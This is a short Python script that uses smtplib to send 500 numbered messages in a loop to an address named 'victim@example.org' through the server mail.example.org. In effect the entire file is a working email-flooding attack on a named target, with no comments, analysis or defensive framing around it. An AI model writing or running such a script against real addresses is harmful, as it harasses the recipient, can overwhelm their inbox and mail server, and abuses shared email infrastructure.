import smtplib

server = smtplib.SMTP("mail.example.org")
for number in range(500):
    server.sendmail("a@example.org", "victim@example.org", f"Subject: {number}\n\nHi")
